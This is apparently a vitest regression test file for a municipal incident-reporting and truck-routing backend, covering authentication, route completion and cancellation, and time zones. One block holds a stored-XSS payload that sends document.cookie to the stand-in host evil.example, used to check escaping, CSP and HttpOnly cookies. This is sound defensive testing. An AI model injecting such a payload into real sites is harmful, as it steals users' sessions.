import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { clockTime, localDay } from '../../shared/time.ts';
import {
  buyTruck,
  hireDriver,
  openHouse,
  PASSWORD,
  planRoute,
  validatedIncident,
  type House,
} from './house.ts';

/** What the system before this one did wrong, and this one must not: each defect is tried as its users met it. */
let house: House;
let driver: Awaited<ReturnType<typeof hireDriver>>;
beforeAll(async () => {
  house = await openHouse();
  driver = await hireDriver(house);
});
afterAll(() => house.close());

describe('a login path that answered 404', () => {
  it('signs in at the path of the contract, by cookie and by token', async () => {
    const login = await house.call('auth.login', { username: 'the-operator', password: PASSWORD }, null);
    expect(login.status).toBe(200);
    const { token, user } = login.data as { token: string; user: { role: string } };
    expect(user.role).toBe('operator');
    expect(login.headers['set-cookie']).toContain(token);
    const me = await house.call('auth.me', {}, token, 'query');
    expect(me.data).toMatchObject({ username: 'the-operator', role: 'operator' });
  });
});

describe('incidents and routes open to anybody', () => {
  it.each([
    ['incidents.list', 'query', {}],
    ['incidents.get', 'query', { id: 1 }],
    ['incidents.validate', 'mutation', { id: 1 }],
    ['incidents.cancel', 'mutation', { id: 1, reason: 'x' }],
    ['plans.current', 'query', {}],
    ['plans.generate', 'mutation', { zone: 'oriental' }],
    ['plans.history', 'query', {}],
    ['assignments.create', 'mutation', { routeId: 1, driverId: 1 }],
    ['stops.complete', 'mutation', { stopId: 1 }],
    ['fleet.trucks', 'query', {}],
    ['tracks.get', 'query', { truckId: 1, from: '2026-01-01T00:00:00Z', to: '2026-01-02T00:00:00Z' }],
    ['events.list', 'query', {}],
  ] as const)('%s asks who is there', async (name, kind, input) => {
    for (const token of [null, 'ses_made-up', house.tokens.citizen]) {
      const { status, error } = await house.call(name, input, token, kind);
      expect([status, error?.data.code]).toEqual(
        token === house.tokens.citizen ? [403, 'FORBIDDEN'] : [401, 'UNAUTHORIZED'],
      );
    }
  });

  it('over plain paths too', async () => {
    for (const url of ['/api/incidencias/', '/osrm/route/v1/driving/-78.6,-0.9;-78.61,-0.9']) {
      expect((await house.http.inject({ url })).statusCode).toBe(401);
    }
  });
});

/** A whole day of a route, through the procedures: assigned, started, one stop done, the rest left. */
async function drive(end: 'finish' | 'cancel') {
  const incidents = [await validatedIncident(house), await validatedIncident(house)];
  const { routeId, incidentStopIds } = await planRoute(house, (await buyTruck(house)).id, incidents);
  const created = await house.call(
    'assignments.create',
    { routeId, driverId: driver.driver.id },
    house.tokens.supervisor,
  );
  const { id } = created.data as { id: number };
  await house.call('assignments.start', { id }, driver.token);
  await house.call('stops.complete', { stopId: incidentStopIds[0] }, driver.token);
  const ended = await house.call(
    `assignments.${end}`,
    { id },
    end === 'finish' ? driver.token : house.tokens.supervisor,
  );
  const states = await Promise.all(
    incidents.map(async ({ id: incidentId }) => {
      const { data } = await house.call('incidents.get', { id: incidentId }, house.tokens.operator, 'query');
      return (data as { state: string }).state;
    }),
  );
  const routeState = async () => {
    const [row] = await house.database.sql`select state, finished_at from routes where id = ${routeId}`;
    return row as { state: string; finished_at: Date | null };
  };
  return { id, routeId, ended, states, route: await routeState(), incidents };
}

describe('a finished route that never closed, incidents that never completed', () => {
  it('closes the route, completes what was done, and names what was not', async () => {
    const { ended, states, route, incidents } = await drive('finish');
    expect(ended.status).toBe(200);
    expect(ended.data).toMatchObject({ state: 'completed', unfinished: [{ incidentId: incidents[1]!.id }] });
    expect(states).toEqual(['completed', 'validated']);
    expect(route.state).toBe('done');
    expect(route.finished_at).not.toBeNull();
  });
});

describe('a cancelled route counted as completed', () => {
  it('is cancelled, completes nothing and is not among the finished', async () => {
    const { ended, states, route, id } = await drive('cancel');
    expect(ended.data).toMatchObject({ state: 'cancelled' });
    expect(states).toEqual(['completed', 'assigned']);
    expect(route.state).not.toBe('done');
    const finished = await house.call(
      'assignments.list',
      { state: 'completed' },
      house.tokens.operator,
      'query',
    );
    expect((finished.data as { id: number }[]).map((assignment) => assignment.id)).not.toContain(id);
  });
});

describe('text of a stranger run as a script', () => {
  const ATTACK = `<script>fetch('//evil.example?'+document.cookie)</script><img src=x onerror=alert(1)>`;

  it('comes back as the text it was, as JSON that no browser takes for a page', async () => {
    const report = await house.call(
      'incidents.report',
      { type: 'acopio', lat: -0.97, lon: -78.56, description: ATTACK },
      null,
    );
    const { id } = report.data as { id: number };
    const shown = await house.call('incidents.get', { id }, house.tokens.operator, 'query');
    expect(shown.data).toMatchObject({ description: ATTACK });
    expect(shown.headers['content-type']).toContain('application/json');
    expect(shown.headers['x-content-type-options']).toBe('nosniff');
    const app = await house.http.inject({
      url: '/api/incidencias/',
      headers: { authorization: `Bearer ${house.tokens.admin}` },
    });
    expect(app.headers['content-type']).toContain('application/json');
  });

  it('would not run even if a page showed it: no script but our own files, no cookie within reach', async () => {
    const page = await house.http.inject({ url: '/health' });
    const policy = String(page.headers['content-security-policy']);
    expect(policy).toMatch(/script-src 'self'(;|$)/);
    expect(policy).not.toMatch(/script-src[^;]*unsafe/);
    const login = await house.call('auth.login', { username: 'the-operator', password: PASSWORD }, null);
    expect(login.headers['set-cookie']).toContain('HttpOnly');
  });
});

describe('times five hours off', () => {
  it('an instant leaves with its zone, and is the instant that was', async () => {
    house.clock.nowMs = Date.parse('2026-03-03T02:30:00Z');
    const { data } = await house.call(
      'incidents.report',
      { type: 'animal_muerto', lat: -0.99, lon: -78.56 },
      null,
    );
    const { windowStart, windowEnd } = data as { windowStart: string; windowEnd: string };
    expect(windowStart).toBe('2026-03-03T02:30:00.000Z');
    expect(windowEnd).toBe('2026-03-03T04:30:00.000Z');
    // Shown in Latacunga it is still the evening before.
    expect([localDay(windowStart), clockTime(windowStart)]).toEqual(['2026-03-02', '21:30']);
  });

  it('a scheduled start given in local time is stored as that instant', async () => {
    const { routeId } = await planRoute(house, (await buyTruck(house)).id, []);
    const { driver: other } = await hireDriver(house, 1);
    const created = await house.call(
      'assignments.create',
      { routeId, driverId: other.id, scheduledStart: '2026-03-03T06:00:00-05:00' },
      house.tokens.supervisor,
    );
    expect(created.data).toMatchObject({ scheduledStart: '2026-03-03T11:00:00.000Z' });
    const withoutZone = await house.call(
      'assignments.create',
      { routeId, driverId: other.id, scheduledStart: '2026-03-03T06:00:00' },
      house.tokens.supervisor,
    );
    expect(withoutZone.error?.data.reason).toBe('invalid-input');
  });

  it('the database session runs in UTC whatever the machine does', async () => {
    const [row] = await house.database.sql`select current_setting('TimeZone') as zone`;
    expect(row!.zone).toBe('UTC');
  });
});
